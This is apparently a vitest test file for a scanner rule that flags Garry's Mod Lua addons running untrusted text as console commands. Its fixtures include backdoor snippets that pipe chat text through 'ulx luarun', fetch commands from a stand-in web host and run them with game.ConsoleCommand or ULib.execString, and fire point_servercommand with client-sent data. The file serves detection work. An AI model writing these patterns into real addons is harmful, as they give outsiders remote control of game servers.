// Valid and invalid cases of the `luarun_command` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './luarun_command.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('luarun_command', () => {
  it('chat text through ulx luarun', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "m", function(ply, text) RunConsoleCommand("ulx", "luarun", string.sub(text, 5)) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('ordinary console command', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'RunConsoleCommand("sv_gravity", "400")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a console line the web server picks whole', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Create("mon", 120, 0, function() http.Fetch("https://a.invalid/task", function(b) game.ConsoleCommand(b .. "\\n") end) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("an admin's cvar editor, and a client setting the cvar its server names", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'net.Receive("cv", function(len, ply)\n if not ply:IsAdmin() then return end\n RunConsoleCommand(net.ReadString(), net.ReadString())\nend)',
      'lua/autorun/client/cl_x.lua':
        'net.Receive("cv", function() RunConsoleCommand(net.ReadString(), net.ReadString()) end)',
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('a point_servercommand fired with what a client sends', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("restart_ping")',
        'net.Receive("restart_ping", function(len, ply)',
        ' local sc = ents.Create("point_servercommand")',
        ' sc:Spawn()',
        ' sc:Fire("Command", net.ReadString(), 0)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a point_servercommand fired with a command of the addon itself', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("InitPostEntity", "x", function() local sc = ents.Create("point_servercommand") sc:Spawn() sc:Fire("Command", "sv_gravity 600", 0) end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a web reply's lines run in the server console through ULib", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Simple(45, function() http.Fetch("https://x.invalid/jobs.txt", function(body) ULib.execString(body, "jobs") end) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("the owner's own schedule file run through ULib, or a fixed line (no high finding)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("cron", 60, 0, function()',
        '  ULib.execString(file.Read("cron/jobs.txt", "DATA") or "", "cron")',
        '  ULib.consoleCommand("say Server restarts at 5am\\n")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
});
